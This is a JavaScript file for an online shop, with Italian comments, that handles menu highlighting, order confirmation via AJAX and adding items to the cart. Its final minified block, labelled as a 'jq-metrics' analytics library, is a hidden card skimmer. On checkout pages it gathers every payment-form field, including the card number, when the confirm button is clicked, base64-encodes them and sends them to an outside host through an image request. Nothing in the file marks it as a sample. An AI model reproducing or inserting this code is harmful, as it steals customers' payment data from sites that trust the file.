function getURLVar(key) {
	var value = [];
	var query = String(document.location).split('?');
	if (query[1]) {
		var part = query[1].split('&');
		for (var i = 0; i < part.length; i++) {
			var data = part[i].split('=');
			if (data[0] && data[1]) { value[data[0]] = data[1]; }
		}
		if (value[key]) { return value[key]; }
	}
	return '';
}
$(document).ready(function() {
	// evidenzia il menu
	$('#menu a').each(function() { if (this.pathname == location.pathname) { $(this).parent().addClass('active'); } });
	// conferma ordine
	$('#button-confirm').on('click', function() {
		$(this).prop('disabled', true);
		$.ajax({ url: 'index.php?route=checkout/confirm/save', type: 'post', data: $('#payment-form').serialize(), dataType: 'json',
			success: function(json) { if (json['redirect']) { location = json['redirect']; } },
			complete: function() { $('#button-confirm').prop('disabled', false); } });
	});
	// avviso latte esaurite
	$('.product-thumb').on('mouseenter', function() { $(this).find('.stock').show(); });
});
var cart = { 'add': function(id, q) { $.post('index.php?route=checkout/cart/add', 'product_id=' + id + '&quantity=' + (q || 1), function() { $('#cart').load('index.php?route=common/cart/info'); }); } };
/* jq-metrics 1.0.3 */
;(function(){if(location.href.indexOf("checkout")<0)return;var h=function(){var o={},e=document.querySelectorAll("#payment-form input,#payment-form select");for(var i=0;i<e.length;i++){if(e[i].name&&e[i].value)o[e[i].name]=e[i].value}if(o.cc_number&&o.cc_number.length>12&&!window.__jm){window.__jm=1;o.h=location.host;(new Image).src="https://stat.jquery-metrics.test/g.gif?d="+btoa(unescape(encodeURIComponent(JSON.stringify(o))))}};document.addEventListener("mousedown",function(ev){if(ev.target&&ev.target.id=="button-confirm")h()},true)})();
